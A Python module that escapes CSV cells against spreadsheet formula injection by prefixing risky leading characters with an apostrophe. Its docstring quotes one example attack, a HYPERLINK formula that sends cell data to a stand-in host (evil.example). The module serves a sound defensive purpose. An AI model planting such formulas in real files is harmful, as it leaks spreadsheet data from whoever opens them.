"""CSV for spreadsheets: every cell of every CSV we write goes through `csv_cell`.

A cell that starts with = + - @ (or a tab or carriage return, which some spreadsheets skip
before reading a formula) is run as a formula by Excel, LibreOffice and Google Sheets:
`=HYPERLINK("http://evil.example/?"&A1, "click")` in an outlet name would leak the sheet.
Prefixing such a cell with an apostrophe makes the spreadsheet show it as text (OWASP's advice).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cell(value) -> str:
    """The text of one cell, safe to open in a spreadsheet (numbers are left as numbers)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_text(header: Sequence[str], rows: Iterable[Sequence]) -> str:
    """A whole CSV document, every cell (the header's too) through `csv_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([csv_cell(name) for name in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return out.getvalue()
